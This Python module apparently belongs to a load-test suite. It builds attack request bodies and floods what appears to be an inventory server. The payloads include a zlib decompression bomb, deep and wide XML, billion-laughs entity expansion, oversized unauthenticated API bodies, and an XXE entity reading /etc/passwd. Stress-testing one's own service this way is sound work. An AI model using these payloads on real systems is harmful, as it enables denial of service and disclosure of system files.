"""Attacks by bodies: bombs, deep and wide XML, inventories, results, and bodies for nobody.

What takes long to make is made once, before the attack begins.
"""

from __future__ import annotations

import random
import secrets
import zlib
from functools import cache
from typing import TYPE_CHECKING, Final

from loadtests.attacks.messages import INVENTORY, Beginning, end_of_inventory, post, prolog, request

if TYPE_CHECKING:
    from loadtests.attacks.attacker import Attacker

MIB: Final = 1_048_576
NETWORK_FIELDS: Final = 250


async def _posts(attacker: Attacker, body: bytes, count: int, at_once: int) -> None:
    async def one(_number: int) -> None:
        await attacker.exchange(attacker.site.http, body)

    await attacker.flood(count, at_once, one)


async def zlib_bombs(attacker: Attacker) -> None:
    """Four megabytes that would inflate to four gigabytes, within an XML text."""
    await _posts(attacker, bomb(), 100, 10)


@cache
def bomb() -> bytes:
    """Pieces that end at a full flush may be repeated."""
    compressor = zlib.compressobj(9)
    head = compressor.compress(b"<REQUEST><DEVICEID>bomb</DEVICEID><QUERY>") + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(b" " * MIB) + compressor.flush(zlib.Z_FULL_FLUSH)
    return post(b"", compressed=head + piece * ((4 * MIB - len(head)) // len(piece)))


async def deep_xml(attacker: Attacker) -> None:
    """A million elements in each other."""
    await _posts(attacker, deep(), 300, 10)


@cache
def deep() -> bytes:
    """That request."""
    return post(INVENTORY + b"<A>" * 1_000_000)


async def wide_xml(attacker: Attacker) -> None:
    """Very many elements, within all other limits."""
    await _posts(attacker, wide(), 100, 10)


@cache
def wide() -> bytes:
    """That request."""
    content = b"<HARDWARE>" + b"<A/>" * 490_000 + b"</HARDWARE>"
    return post(INVENTORY + content + end_of_inventory("wide-2026-01-01-00-00-00"))


async def wide_tags(attacker: Attacker) -> None:
    """A tag of very many attributes, and one that does not end."""

    async def one(number: int) -> None:
        await attacker.exchange(attacker.site.http, tags()[number % 2])

    await attacker.flood(200, 10, one)


@cache
def tags() -> tuple[bytes, bytes]:
    """Those requests."""
    attributes = b" ".join(b'a%d=""' % number for number in range(70_000))
    return post(b"<REQUEST %s/>" % attributes), post(b'<REQUEST A="' + b"a" * 8 * MIB)


async def entities(attacker: Attacker) -> None:
    """Entities of entities (billion laughs), and one of a file."""
    entity = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    document = b'<!DOCTYPE R [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY e0 "x">' + entity
    await _posts(attacker, post(document + b"]><REQUEST><DEVICEID>&e11;&f;</DEVICEID></REQUEST>"), 1000, 20)


def _networks(inflated_bytes: int) -> bytes:
    """Sections with long values that compress well, at most so large together."""
    draw, size_bytes = random.Random(1), 0
    parts: list[bytes] = []
    while True:
        fields = (b"<F%d>%s</F%d>" % (n, draw.randbytes(2).hex().encode() * 1000, n) for n in range(NETWORK_FIELDS))
        part = b"<NETWORKS>" + b"".join(fields) + b"</NETWORKS>"
        size_bytes += len(part)
        if size_bytes > inflated_bytes:
            return b"".join(parts)
        parts.append(part)


async def _inventories(attacker: Attacker, beginning: Beginning, count: int, at_once: int) -> None:
    """Inventories that begin so, each by a new DEVICEID."""
    run = secrets.token_hex(4)

    async def one(number: int) -> None:
        body = beginning.body(end_of_inventory(f"{run}-{number:04}-2026-01-01-00-00-00"))
        await attacker.exchange(attacker.site.http, post(b"", compressed=body))

    await attacker.flood(count, at_once, one)


async def huge_inventories(attacker: Attacker) -> None:
    """21 inventories by new DEVICEIDs, of some 100 KB each that inflate to almost 32 MiB."""
    await _inventories(attacker, huge(), 21, 7)


@cache
def huge() -> Beginning:
    """How they begin."""
    return Beginning(INVENTORY + _networks(32 * MIB - 1000))


async def large_inventories(attacker: Attacker) -> None:
    """Inventories by new DEVICEIDs that inflate to almost 4 MiB."""
    await _inventories(attacker, large(), 100, 7)


@cache
def large() -> Beginning:
    """How they begin."""
    return Beginning(INVENTORY + _networks(4 * MIB - 1000))


async def long_histories(attacker: Attacker) -> None:
    """Inventories whose histories claim very many packages."""
    await _inventories(attacker, histories(), 60, 6)


@cache
def histories() -> Beginning:
    """How they begin."""
    packages = b"".join(b'<PACKAGE ID="%d"/>' % number for number in range(1_500_000_000, 1_500_100_000))
    return Beginning(INVENTORY + b"<DOWNLOAD><HISTORY>" + packages + b"</HISTORY></DOWNLOAD>")


async def new_computers(attacker: Attacker) -> None:
    """Contacts of computers that nobody has heard of, a hundred on a connection."""

    async def one(_number: int) -> None:
        run = secrets.token_hex(4)
        posts = [post(prolog(f"{run}-{n:04}-2026-01-01-00-00-00"), kept=True) for n in range(99)]
        await attacker.exchange(attacker.site.http, *posts, post(prolog(f"{run}-last-2026-01-01-00-00-00")))

    await attacker.flood(200, 10, one)


async def invented_results(attacker: Attacker) -> None:
    """Results of computers and packages that are not there, with long codes."""

    async def one(number: int) -> None:
        device_id = f"{secrets.token_hex(4)}-2026-01-01-00-00-00"
        document = f'<REQUEST DEVICEID="{device_id}" ERR="{"ERR" * 1300}" ID="{number}" QUERY="DOWNLOAD" />'
        await attacker.exchange(attacker.site.http, post(document.encode()))

    await attacker.flood(2000, 20, one)


async def bodies_without_login(attacker: Attacker) -> None:
    """Bodies of 4 MB for the API, and an upload, by nobody."""
    body = b'{"name": "' + b"x" * 4_000_000 + b'"}'
    fields = b"Content-Type: application/json\r\n"
    requests = [
        request("POST", "/api/v1/packages", fields, body),
        request("PUT", "/api/v1/uploads/x", b"", body),
        request("POST", "/api/v1/mirror/join", b"Content-Type: application/msgpack\r\n", body),
    ]

    async def one(number: int) -> None:
        await attacker.exchange(attacker.site.https, requests[number % len(requests)], tls=True)

    await attacker.flood(150, 30, one)
